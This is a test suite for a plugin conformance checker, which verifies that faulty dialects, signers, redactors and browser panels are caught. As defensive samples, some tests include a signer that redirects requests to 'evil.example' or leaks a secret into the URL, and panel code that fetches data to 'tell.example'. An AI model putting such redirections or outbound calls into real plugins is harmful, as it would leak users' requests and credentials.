"""The conformance run says which law a plug-in breaks."""

import time
from collections.abc import Callable
from dataclasses import replace
from functools import partial
from itertools import count
from pathlib import Path
from typing import Any, get_args

import msgspec
import pytest

from sightline.app.configuration import default_catalogue
from sightline.cli.program import main
from sightline.dialects.dialect import Client, Dialect
from sightline.dialects.registry import NAMES, dialect
from sightline.errors import Code, Fault
from sightline.model.events import (
    ArgumentsReceived,
    Ended,
    RefusalReceived,
    StreamEvent,
    ToolCallBegun,
    ToolCallCompleted,
)
from sightline.model.exchange import Fact
from sightline.model.parts import Refusal, ToolCall
from sightline.model.reply import Reply
from sightline.model.report import Report
from sightline.plugins import ExchangeField, FilterSubject, HttpRequest, Panel, Plugin, SigningContext
from sightline.plugins.conformance import check_plugin
from tests.dialects.plain_dialect import DIALECT as PLAIN

CHAT = dialect("openai-chat")
CALL = ToolCallBegun | ArgumentsReceived | ToolCallCompleted


def broken(plugin: Plugin) -> dict[str, str]:
    found = check_plugin(plugin, default_catalogue())
    return {each.rule: each.problem for each in found if each.problem is not None}


def test_a_sound_dialect_that_resembles_no_built_in_one_passes() -> None:
    assert broken(Plugin(name="p", dialects=(PLAIN,))) == {}


def _forget_tools(request: object, target: object, report: object) -> object:
    document = CHAT.write_request(request, target, report)  # type: ignore[arg-type]
    assert isinstance(document, dict)
    return {"model": document["model"], "messages": document["messages"][:2]}  # type: ignore[index]


class _Deaf:
    """A reader for which each stream ends well."""

    is_complete = True

    def __init__(self) -> None:
        self.reader = CHAT.stream_reader()

    def feed(self, frame: object) -> list[object]:
        return [each for each in self.reader.feed(frame) if type(each).__name__ not in ("Failed", "Ended")]  # type: ignore[arg-type]

    def close(self) -> list[object]:
        return [Ended()]


@pytest.mark.parametrize(
    ("faulty", "rule"),
    [
        (replace(CHAT, name="raw"), "has a name of its own"),
        (replace(CHAT, name="x", write_request=_forget_tools), "law 3: no silent loss"),
        (replace(CHAT, name="x", write_request=_forget_tools), "law 1: keeps fields that it does not know"),
        (replace(CHAT, name="x", read_reply=lambda _body: [Ended()]), "law 4: a stream is the whole reply"),
        (replace(CHAT, name="x", stream_reader=_Deaf), "law 5: a stream that breaks off is no success"),
        (replace(CHAT, name="x", stream_reader=_Deaf), "law 5: an error stays an error"),
        (replace(CHAT, name="x", write_error=lambda _fault: (200, {})), "law 5: an error stays an error"),
        (replace(CHAT, name="x", read_request=lambda _body: 1 / 0), "law 7: what it writes is valid"),
    ],
)
def test_a_dialect_that_breaks_a_law_is_told_which(faulty: Dialect, rule: str) -> None:
    assert rule in broken(Plugin(name="p", dialects=(faulty,)))


@pytest.mark.parametrize("name", NAMES)
def test_a_built_in_dialect_keeps_law_4(name: str) -> None:
    found = broken(Plugin(name="p", dialects=(replace(dialect(name), name="x"),)))
    assert "law 4: a stream is the whole reply" not in found, found


class _Forgetful:
    """A writer that passes over events of one kind, and reports nothing."""

    def __init__(self, forgotten: Any, client: Client, report: Report) -> None:
        self.writer, self.forgotten = CHAT.stream_writer(client, report), forgotten

    def feed(self, event: StreamEvent) -> bytes:
        return b"" if isinstance(event, self.forgotten) else self.writer.feed(event)


def _without(kind: type, reply: Reply, client: Client, report: Report) -> object:
    parts = tuple(part for part in reply.choice.parts if not isinstance(part, kind))
    changed = msgspec.structs.replace(reply.choice, parts=parts)
    return CHAT.write_reply(msgspec.structs.replace(reply, choices=(changed,)), client, report)


@pytest.mark.parametrize(
    ("faulty", "problem"),
    [
        (replace(CHAT, name="x", stream_writer=partial(_Forgetful, RefusalReceived)), "a refusal, streamed"),
        (replace(CHAT, name="x", stream_writer=partial(_Forgetful, CALL)), "a call of a function, streamed"),
        (replace(CHAT, name="x", write_reply=partial(_without, Refusal)), "a refusal, whole"),
        (replace(CHAT, name="x", write_reply=partial(_without, ToolCall)), "a call of a function, whole"),
    ],
)
def test_a_dialect_that_drops_a_refusal_or_a_call_breaks_law_4(faulty: Dialect, problem: str) -> None:
    found = broken(Plugin(name="p", dialects=(faulty,)))
    assert found["law 4: a stream is the whole reply"].startswith(problem)


def test_what_a_dialect_cannot_carry_and_reports_breaks_no_law() -> None:
    def report_refusal(report: Report) -> Report:
        report.lose("", "a refusal", "there is none", "content")
        return report

    def write_stream(client: Client, report: Report) -> _Forgetful:
        return _Forgetful(RefusalReceived, client, report_refusal(report))

    def write_reply(reply: Reply, client: Client, report: Report) -> object:
        return _without(Refusal, reply, client, report_refusal(report))

    reporting = replace(CHAT, name="x", stream_writer=write_stream, write_reply=write_reply)
    assert broken(Plugin(name="p", dialects=(reporting,))) == {}


def signer(change: Callable[[HttpRequest], object]) -> Plugin:
    class Signer:
        def __init__(self, context: SigningContext) -> None:
            self.context = context

        async def sign(self, request: HttpRequest) -> object:
            return change(request)

    return Plugin(name="s", signers={"s": Signer})  # type: ignore[dict-item]


def _with(request: HttpRequest, **fields: object) -> HttpRequest:
    return msgspec.structs.replace(request, **fields)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("change", "rule"),
    [
        (lambda request: request, "signs"),
        (lambda request: _with(request, body=b"{}"), "law 6: what was shown is sent"),
        (lambda request: _with(request, url="https://evil.example/v1"), "law 10: the request goes to its provider"),
        (lambda request: _with(request, url=f"{request.url}&k=conformance-secret-0123456789"),
         "law 10: the secret is in no address"),
        (lambda request: _with(request, headers=(("x-sign", "1"),)), "law 11: the client's headers are kept"),
        (lambda request: _with(request, headers=(*request.headers, ("x-sign", "a\nb"))), "can be sent"),
        (lambda request: _with(request, headers=(*request.headers, ("x-sign", "1"))),
         "law 8: can be signed again for a retry"),
        (lambda _request: None, "signs"),
    ],
)  # fmt: skip
def test_a_signer_that_breaks_a_law_is_told_which(change: Callable[[HttpRequest], object], rule: str) -> None:
    assert rule in broken(signer(change))


def _raise(_value: object) -> bytes:
    raise RuntimeError("no disk")


def _refuse(_value: object) -> bytes:
    raise Fault(Code.USAGE, "not today")


def undocumented(n: int) -> int:
    return n


@pytest.mark.parametrize(
    ("plugin", "problem"),
    [
        (Plugin(name="p", hooks=(_raise,)), "it raised RuntimeError: no disk"),
        (Plugin(name="p", exporters={"x": _refuse}), "it refuses: not today"),
        (Plugin(name="p", exporters={"x": lambda _archive: "text"}), "it returned str, not bytes"),  # type: ignore[dict-item]
        (Plugin(name="p", importers={"x": lambda _data: {}}), "it takes b'' for a file of its own"),
        (
            Plugin(name="p", exporters={"x": lambda _archive: b"x"}, importers={"x": lambda _data: None}),
            "it returned None",
        ),
        (Plugin(name="p", tools=(undocumented,)), "it has no docstring"),
        (Plugin(name="p", catalogue="[providers.openai]\nbase_url = 'http://127.0.0.1:1'"), "(law 10)"),
    ],
)
def test_other_kinds_are_called_with_samples(plugin: Plugin, problem: str) -> None:
    (found,) = broken(plugin).values()
    assert problem in found


def _change_case(case: dict[str, object]) -> float:
    case["output"] = ""
    return 1.0


async def _write_later(_event: object) -> None:
    pass


def _field(read: Callable[[FilterSubject], Any], kind: Any = "text", meaning: str = "the team") -> ExchangeField:
    return ExchangeField(kind, meaning, read)


def _panel(module: str) -> Plugin:
    return Plugin(name="p", panels={"p": Panel("P", module)})


IN_TEXT, OF_KIND = "law 10: finds values that are in the text", "has a value of its kind, also where nothing is known"
COUNT = count()
SHOW = "export default function show(element) { element.append('hi'); }"


@pytest.mark.parametrize(
    ("plugin", "rule"),
    [
        (Plugin(name="p", graders={"rubrics": lambda _case: 1.0}), "has a name of its own"),
        (Plugin(name="p", graders={"x": lambda _case: 2}), "gives a score from 0 to 1"),
        (Plugin(name="p", graders={"x": lambda case: 1 / len(str(case["output"]))}), "gives a score from 0 to 1"),
        (Plugin(name="p", graders={"x": _change_case}), "leaves the case as it is"),  # type: ignore[dict-item]
        (Plugin(name="p", redactors={"x": lambda _text: ["made up"]}), IN_TEXT),
        (Plugin(name="p", redactors={"x": lambda _text: [None]}), IN_TEXT),  # type: ignore[dict-item,list-item]
        (Plugin(name="p", redactors={"x": lambda text: [text] if text else []}), "law 10: leaves stand-ins alone"),
        (Plugin(name="p", fields={"model": _field(lambda _: "m")}), "has a name of its own"),
        (Plugin(name="p", exporters={"har": lambda _: b""}), "has a name of its own"),
        (Plugin(name="p", hooks=(_write_later,)), "takes events of every kind"),
        (Plugin(name="p", fields={"team": _field(lambda _: "m", meaning=" ")}), "says what it means"),
        (Plugin(name="p", fields={"team": _field(lambda each: str(each.value("session")).index("."))}),
         OF_KIND),
        (Plugin(name="p", fields={"team": _field(lambda _: 7)}), OF_KIND),
        (Plugin(name="p", fields={"team": _field(lambda _: "m", "date")}),
         OF_KIND),
        (Plugin(name="p", fields={"team": _field(lambda _: str(next(COUNT)))}), "has the same value every time"),
        (Plugin(name="p", panels={"My panel": Panel("P", SHOW)}), "has a name that can be an address"),
        (Plugin(name="p", panels={"p": Panel("", SHOW)}), "has a title"),
        (_panel("function show() {}"), "its module has a default export"),
        (_panel(f"{SHOW} element.innerHTML = exchange.id;"), "the page's policy lets it run"),
        (_panel(f"import x from 'https://cdn.example/x.js'; {SHOW}"), "law 10: it asks this server alone"),
        (_panel(f"{SHOW} fetch(`https://tell.example/${{1}}`)"), "law 10: it asks this server alone"),
    ],
)  # fmt: skip
def test_a_rule_that_is_broken_is_named(plugin: Plugin, rule: str) -> None:
    assert rule in broken(plugin)


def test_a_hook_gets_every_kind_of_event_but_frames() -> None:
    kinds: list[str] = []
    assert broken(Plugin(name="p", hooks=(lambda event: kinds.append(event.kind),))) == {}
    assert {*kinds, "frame"} == {each.__struct_config__.tag for each in get_args(Fact)}


def test_a_check_that_does_not_end_is_a_broken_rule(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sightline.plugins.checks.CHECK_SECONDS", 0.2)
    plugin = Plugin(name="p", hooks=(lambda _event: time.sleep(3600),))
    assert broken(plugin) == {"takes events of every kind": "it did not return within 0.2 s"}


def test_the_command_says_what_is_wrong_and_fails(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = tmp_path / "mine.py"
    assert main(["plugin", "test", str(file)]) == 2
    file.write_text("1 / 0")
    assert main(["plugin", "test", str(file)]) == 1
    assert "NO   load  ZeroDivisionError: division by zero" in capsys.readouterr().out
    file.write_text(
        "from sightline.plugins import Plugin\ndef f(n: int): return n\nPLUGIN = Plugin(name='f', tools=(f,))"
    )
    assert main(["plugin", "test", str(file)]) == 1
    assert "NO   tool f  its parameters are described: it has no docstring" in capsys.readouterr().out
    assert main(["plugin", "test", "no-such-entry-point"]) == 1
    other = tmp_path / "README.md"
    other.write_text("# Read me")
    assert main(["plugin", "test", str(other)]) == 1
    assert "a plug-in is a Python file, whose name ends in .py" in capsys.readouterr().out


SAMPLED = """from sightline.plugins import Plugin
import msgspec
class Signer:
    def __init__(self, context):
        self.region = context.options["region"]
    async def sign(self, request):
        return msgspec.structs.replace(request, headers=(*request.headers[:2], ("x-region", self.region)))
PLUGIN = Plugin(name="s", signers={"s": Signer}, redactors={"r": lambda text: "ACME" if "ACME" in text else []})
"""


def test_the_author_can_give_samples(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = tmp_path / "mine.py"
    file.write_text(SAMPLED)
    assert main(["plugin", "test", str(file)]) == 1
    out = capsys.readouterr().out
    assert "NO   signer s  signs: it raised KeyError: 'region'" in out
    assert "NO   redactor" not in out
    assert main(["plugin", "test", str(file), "--option", "region=x=y", "--text", "To ACME."]) == 1
    out = capsys.readouterr().out
    assert "NO   signer" not in out
    assert "NO   redactor r  law 10: finds values that are in the text: it raised TypeError: it returned str" in out
    assert main(["plugin", "test", str(file), "--option", "region"]) == 2
